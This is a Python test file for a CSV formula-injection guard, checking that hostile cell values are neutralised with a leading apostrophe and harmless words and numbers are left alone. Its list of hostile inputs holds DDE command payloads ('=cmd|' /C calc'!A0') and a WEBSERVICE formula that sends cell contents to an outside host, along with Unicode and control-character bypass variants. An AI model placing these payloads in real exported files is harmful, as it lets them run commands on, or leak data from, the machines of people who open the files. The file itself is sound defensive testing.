"""Words in CSV files never start as a formula does."""

import pytest

from equitytown.publish.guard import guarded

HOSTILE = (
    "=1+1",
    '=HYPERLINK("https://example.org","Click")',
    "=cmd|' /C calc'!A0",
    '=WEBSERVICE("https://example.org/"&A1)',
    '=IMPORTXML("https://example.org","//a")',
    '=IMAGE("https://example.org/a.png")',
    "={1,2}",
    "==1",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "- 5",
    "-",
    "--1",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x01=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "\ufe6611",
    "+1,2,3",
    "-1e5+A1",
    '=1+1";=1+1',
)  # fmt: skip
HARMLESS = ("", "Luton", "[x]", "4 of 16", "2018-20", "1 Best start in life", "a=b", "£5", "\u2212 0.4", "50%", "'=1")
NUMBERS = ("-0.4", "+3", "-12,345.6", "-1e-05", "-7.5%", "0", "12")


@pytest.mark.parametrize("words", HOSTILE)
def test_a_formula_is_made_words(words):
    assert guarded(words) == f"'{words}"


@pytest.mark.parametrize("words", [*HARMLESS, *NUMBERS])
def test_harmless_words_and_numbers_are_left_alone(words):
    assert guarded(words) == words
